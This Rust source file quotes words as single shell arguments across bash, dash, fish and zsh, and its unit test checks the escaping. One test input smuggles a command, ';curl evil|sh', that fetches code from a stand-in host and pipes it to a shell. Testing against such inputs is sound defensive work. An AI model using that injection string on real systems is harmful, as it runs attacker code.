//! Words of shell commands that people copy. Names of topics, groups and users come from other parties, so a
//! word must never become another command.

use std::borrow::Cow;

/// A text as one argument of bash, dash, fish or zsh. In fish, a backslash escapes within single quotes too,
/// so backslashes stand outside of the quotes. zsh expands a word that begins with `=`; fish expands `%self`.
pub fn quoted(word: &str) -> Cow<'_, str> {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_./:,@%+=".contains(&byte);
    let is_expanded = word.starts_with(['=', '%']);
    if !word.is_empty() && !is_expanded && word.bytes().all(is_plain) {
        return Cow::Borrowed(word);
    }
    let mut text = String::with_capacity(word.len() + 8);
    text.push('\'');
    for c in word.chars() {
        match c {
            '\'' => text.push_str(r"'\''"),
            '\\' => text.push_str(r"'\\'"),
            c => text.push(c),
        }
    }
    text.push('\'');
    Cow::Owned(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_stays_one_argument_in_every_shell() {
        for (word, expected) in [
            ("orders", "orders"),
            ("--scale=0.1", "--scale=0.1"),
            ("a=b%", "a=b%"),
            ("/ann/data-security", "/ann/data-security"),
            ("", "''"),
            ("a b", "'a b'"),
            ("a;b", "'a;b'"),
            ("*", "'*'"),
            ("~ann", "'~ann'"),
            ("it's", r"'it'\''s'"),
            ("=ls", "'=ls'"),
            ("%self", "'%self'"),
            (r"a\", r"'a'\\''"),
            (r"x\';curl evil|sh #", r"'x'\\''\'';curl evil|sh #'"),
            ("žofka", "'žofka'"),
        ] {
            assert_eq!(quoted(word), expected, "{word:?}");
        }
    }
}
